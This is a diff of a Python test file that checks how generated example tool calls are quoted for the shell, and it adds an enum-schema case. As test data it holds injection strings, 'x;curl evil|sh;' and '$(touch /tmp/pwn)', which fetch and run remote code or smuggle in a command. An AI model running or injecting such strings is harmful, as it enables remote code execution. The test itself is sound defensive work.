@@ -77,6 +77,8 @@ def test_the_output_of_a_tool() -> None:
 
 
 def test_a_call_to_copy_is_quoted_for_the_shell() -> None:
+    numbers = {"type": "object", "properties": {"size": {"enum": [5, 10]}}, "required": ["size"]}
+    assert example_call(make_tool("send", schema=numbers)).endswith(" size=5")
     properties = {"x;curl evil|sh;": {"type": "string"}, "c": {"enum": ["$(touch /tmp/pwn)"]}, "o": {"type": "object"}}
     schema = {"type": "object", "properties": properties, "required": list(properties)}
     words = shlex.split(example_call(make_tool("send", schema=schema)))
